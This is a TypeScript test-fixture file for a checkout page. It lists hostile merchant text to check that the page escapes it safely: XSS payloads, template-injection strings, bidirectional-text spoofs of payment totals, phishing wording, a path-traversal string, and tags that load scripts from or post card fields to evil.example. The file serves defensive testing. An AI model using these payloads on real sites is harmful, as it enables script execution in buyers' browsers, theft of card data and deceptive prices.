/** Text that a merchant could send to break the page, imitate us, or run something in the buyer's browser. */

const ATTACK = "globalThis.__owned=1";

/** One of each kind, for stories that take seconds a text: they stand in every field, on every page, at both widths. */
export const WORST: readonly string[] = [
  // Markup, and the way out of an attribute.
  `<script>${ATTACK}</script>`,
  `"><svg onload=${ATTACK}>`,
  // Another direction, and a script that has one.
  "\u202e10.0$ latoT \u202d\u2066\u2067 Total $0.01 USD \u202a\u202b",
  "מחיר סופי $0.01 السعر النهائي",
  // Without a place to break, without a width, and without a height that ends.
  "W".repeat(255),
  `https://shop.example/${"a-very-long-path-without-a-break/".repeat(7)}`,
  `${"\u200b\u200c\u200d\u2060\ufeff".repeat(20)}.`,
  `Z${"\u0489\u030d\u0316".repeat(84)}`,
];

/** Everything here passes as a title. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...WORST,
  `<img src=x onerror=${ATTACK}>`,
  `' autofocus onfocus=${ATTACK} x='`,
  `</title></textarea></style></script><script>${ATTACK}</script>`,
  `<a href="javascript:${ATTACK}">Pay now</a>`,
  `<iframe srcdoc="<script>${ATTACK}</script>"></iframe>`,
  `<style>body{display:none}*{background:url(//evil.example)}</style>`,
  `<form action=https://evil.example><input name=card autofocus><button>Pay</button></form>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example"><base href=https://evil.example>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<!--<img title="--><img src=x onerror=${ATTACK}>">`,
  `<![CDATA[<script>${ATTACK}</script>]]>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${ATTACK}>`,
  `{{constructor.constructor('${ATTACK}')()}} \${${ATTACK}} #{7*7}`,
  `&lt;script&gt;${ATTACK}&lt;/script&gt; &#x3c;script>${ATTACK}&#x3c;/script>`,
  `${"\u2069".repeat(20)}\u202eTotal $0.00${"\u202e".repeat(100)}`,
  "\ufdfd".repeat(255),
  "👨‍👩‍👧‍👦".repeat(23),
  "漢字".repeat(127),
  "a\nb\tc\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\nd",
  `a${"\u00a0".repeat(254)}`,
  "Verified seller ✔ Nothing has been charged. You have already paid.",
  "___proto__.constructor toString null undefined NaN [object Object]",
  "%3Cscript%3E%00../../etc/passwd\\x3cscript\\x3e",

  // Markup that browsers read in unusual ways.
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>import("//evil.example/x.js")</script>`,
  `<svg><animate onbegin=${ATTACK} attributeName=x dur=1s>`,
  `<svg><script href=data:,${ATTACK} />`,
  `<details open ontoggle=${ATTACK}><summary>Total $0.01`,
  `<video><source onerror=${ATTACK}></video><audio src=x onerror=${ATTACK}>`,
  `<input onfocus=${ATTACK} autofocus><select onfocus=${ATTACK} autofocus>`,
  `<body onload=${ATTACK}><html onmouseover=${ATTACK}>`,
  `<object data="javascript:${ATTACK}"></object><embed src="javascript:${ATTACK}">`,
  `<noscript><p title="</noscript><img src=x onerror=${ATTACK}>">`,
  `<template><script>${ATTACK}</script></template><slot name=x>`,
  `<a href=" &#14; javascript:${ATTACK}">Verified seller</a>`,
  `<a href="java\tscript:${ATTACK}" ping=//evil.example>x</a>`,
  `<img srcset="//evil.example/x 1x" src=//evil.example/pixel.gif width=1>`,
  `<table background=//evil.example/x><td background=//evil.example/y>`,
  `<div style="position:fixed;inset:0;background:#fff;z-index:9999">Nothing to pay</div>`,
  `<button formaction=https://evil.example>Confirm and pay $0.01</button>`,
  `</form><form action=https://evil.example method=post><input name=csrf>`,
  `<dialog open>Enter your card number</dialog><marquee>Sale</marquee>`,
  `<plaintext><xmp><listing>`,
  `<base target=_blank><frameset onload=${ATTACK}>`,
  `-->]]></script></bdi></span></p></div></main></body></html><h1>Paid</h1>`,
  "&#0;&lt;/bdi&gt;&NewLine;&colon;&lpar;&#x202e;&zwj;",
  `<\u017fcript>${ATTACK}</\u017fcript> \uff1cscript\uff1e${ATTACK}\uff1c/script\uff1e`,
  `<script>${ATTACK}//`,
  `onclick=${ATTACK} class="fixed inset-0" style=color:red data-status=//evil.example data-copy=x`,

  // Places of our own sentences.
  "{seller} {until} {total} {amount} {host} {email} {deadline} {phone}",
  "{{total}} ${total} %s %1$s $1 $& $$ :total <%= total %> #{total} [[total]]",

  // Direction, width and height.
  "\u2067\u202e\u2066Total $0.01\u2069\u202c\u2069 \u200f\u200e\u061c",
  `${"\u202b\u202a\u202e\u202d".repeat(60)}.`,
  `${"\u2068".repeat(254)}.`,
  "𒐫𒈙⸻﷽꧅".repeat(40),
  "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft".repeat(3),
  "i\u0307\u0323\u0330\u0311".repeat(50),
  "ཧཱུྃ\u0f71\u0f72\u0f74".repeat(25),
  "‮🏳️‍🌈".repeat(40),
  `${"\u3164\u115f\u1160\u2800\u180e".repeat(40)}.`,
  `a${"\n".repeat(254)}`,
  `a${"\u2028\u2029".repeat(80)}`,
  "e\u0301".repeat(127),
  `${"\u{e0041}\u{e0042}\u{e007f}".repeat(80)}.`,

  // Words that could be ours.
  "Your payment was declined. Call +1 555 0100 and give them your PIN.",
  "Holdfast support: you have already paid. Total $0.00",
  "Signed in as root@holdfast.example. Not you?",
];

/** As long and in as many lines, and of nothing but letters. */
export const harmlessAs = (text: string): string => text.replaceAll(/\S/gu, "x");

/**
 * All of a page that is not text: every element in its place with the names and values of its attributes. Of an address only the
 * scheme is kept, of values that repeat a text nothing.
 * @param repeated names of attributes that may repeat a text.
 */
export const skeletonOf = (html: string, repeated = ["content", "data-version"]): string =>
  [...html.matchAll(/<(?:[^<>"]|"[^"]*")*>/g)]
    .map(([tag]) =>
      tag
        .replaceAll(/ href="(\w+:)?[^"]*"/g, ' href="$1"')
        .replaceAll(new RegExp(` (${repeated.join("|")})="[^"]*"`, "g"), " $1"),
    )
    .join("");

/** In what a seller delivered an address of the web can be followed, and that is all that words may become. */
export const withoutLinks = (html: string): string => html.replaceAll(LINK, "$1");
const LINK =
  /<a class="link link-primary \[overflow-wrap:anywhere\]" href="https?:[^"]*" dir="ltr" target="_blank" rel="noopener noreferrer nofollow">([^<]*)<\/a>/g;
